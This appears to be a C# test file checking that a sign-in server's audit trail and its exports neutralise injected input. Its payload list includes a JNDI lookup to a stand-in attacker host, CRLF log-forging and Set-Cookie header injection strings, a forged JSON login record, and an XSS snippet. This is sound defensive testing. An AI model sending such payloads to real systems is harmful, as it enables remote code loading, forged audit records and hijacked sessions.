using System.Text.Json;
using Gapura.Server.Audit;
using Gapura.Server.Tests.Flows.Reset;
using Gapura.Server.Tests.Http;
using Gapura.Storage;
using Gapura.Testing;
using Microsoft.Extensions.DependencyInjection;

namespace Gapura.Server.Tests.Audit;

/// <summary>ATK-23: what people and programs send appears in the trail as one harmless line.</summary>
public sealed class LogInjectionTests
{
    private static readonly string[] s_texts =
    [
        "a\u2028b\u2029c", "\u001b[31mmerah\u001b[0m", "\"}\n{\"kind\":\"authn_login_success\"}", "${jndi:ldap://jahat.example/a}", "<script>alert(1)</script>",
        "\u202Eterbalik", "a\r\n2026-01-01T00:00:00Z authn_login_success success", "%0d%0aSet-Cookie: a=b", new('x', 1000), "\u0000nol", "\uD83D\uDE00",
    ];

    [Theory]
    [InlineData("a\r\nb\tc\0d", "a  b c d")]
    [InlineData("a\u0085b\u2028c\u2029d", "a b c d")]
    [InlineData("\u001b[31mmerah", " [31mmerah")]
    [InlineData("a\u202Eb\uD83D\uDE00", "a b  ")]
    [Trait("Clause", "L-05")]
    public void What_could_break_or_turn_a_line_becomes_a_space(string text, string clean) => Assert.Equal(clean, AuditLog.Clean(text));

    [Theory]
    [InlineData(DatabaseKind.Sqlite)]
    [InlineData(DatabaseKind.Postgres)]
    [Trait("Clause", "L-05")]
    [Trait("Clause", "ATK-23")]
    public async Task Whatever_is_sent_becomes_one_row_of_plain_text_and_one_line_of_the_export(DatabaseKind kind)
    {
        await using var scene = await Scene.SignedInAsync(kind);
        using var browser = scene.Gapura.NewVisitor();
        var before = (await scene.Gapura.AuditAsync()).Count;
        foreach (var text in s_texts)
        {
            browser.Headers["Referer"] = "https://jahat.example/" + Uri.EscapeDataString(text);
            browser.Headers["User-Agent"] = new string([.. text.Where(c => c is >= ' ' and < '\u007f')]);
            await browser.PostOnlyAsync("/lpse/sign-in", ("userId", text), ("userType", "penyedia"));
            await browser.PostOnlyAsync("/lpse/sign-in", ("lain", text));
            var page = await browser.GetAsync("/lpse/sign-in?userType=penyedia");
            var password = await browser.SubmitAsync(page, "Login", ("userId", text));
            if (password.Asked.OriginalString.EndsWith("/password", StringComparison.Ordinal))
            {
                await browser.SubmitAsync(password, "Login", ("password", text));
            }

            await scene.Gapura.AskForResetAsync(browser, scene.Person with { UserId = text, Email = $"{text}@contoh.example" });
        }

        var rows = await scene.Gapura.AuditAsync();
        Assert.True(rows.Count >= before + (s_texts.Length * 2), $"{rows.Count - before} rows.");
        Assert.All(rows, row => Assert.All(
            (string[])[row.UserAgent, row.Reason, row.Address, row.Details, row.Actor, row.Portal, row.Reference],
            text => Assert.DoesNotContain(text, c => char.IsControl(c) || c is '\u2028' or '\u2029' or '\u202E')));
        Assert.All(rows, row => Assert.True(row.UserAgent.Length <= 301));

        await scene.ChainedAsync();
        using var export = new StringWriter();
        await ActivatorUtilities.CreateInstance<AuditExport>(scene.Gapura.Services).WriteAsync(export, new AuditExportOrder(null, null, null, false), CancellationToken.None);
        var lines = export.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(rows.Count, lines.Length);
        Assert.All(lines, line => Assert.Equal(JsonValueKind.Object, JsonDocument.Parse(line).RootElement.ValueKind));
        using var csv = new StringWriter();
        await ActivatorUtilities.CreateInstance<AuditExport>(scene.Gapura.Services).WriteAsync(csv, new AuditExportOrder(null, null, null, true), CancellationToken.None);
        Assert.Equal(rows.Count + 1, csv.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries).Length);
    }

    [Fact]
    [Trait("Clause", "L-05")]
    [Trait("Clause", "ATK-23")]
    public async Task A_header_with_raw_line_ends_is_no_request_and_leaves_no_row()
    {
        await using var scene = await Scene.SignedInAsync();
        var before = (await scene.Gapura.AuditAsync()).Count;
        foreach (var agent in (string[])["a\rb", "a\0b", "a\r\n b"])
        {
            var answer = await RawHttp.SendAsync(scene.Gapura.Address, $"POST /lpse/sign-in HTTP/1.1\r\nHost: localhost\r\nUser-Agent: {agent}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", asIs: true);
            Assert.Equal(400, RawHttp.StatusOf(answer));
        }

        Assert.Equal(before, (await scene.Gapura.AuditAsync()).Count);
    }

    [Fact]
    [Trait("Clause", "L-03")]
    public async Task Times_in_the_trail_are_the_servers_in_UTC_whatever_the_request_says()
    {
        await using var scene = await Scene.SignedInAsync();
        scene.Browser.Headers["Date"] = "Mon, 01 Jan 2001 00:00:00 GMT";
        await scene.Browser.PostOnlyAsync("/lpse/sign-in");
        var row = (await scene.Gapura.AuditAsync())[^1];
        Assert.Equal(scene.Gapura.Time.GetUtcNow(), row.At);
        Assert.Equal(TimeSpan.Zero, row.At.Offset);
    }
}
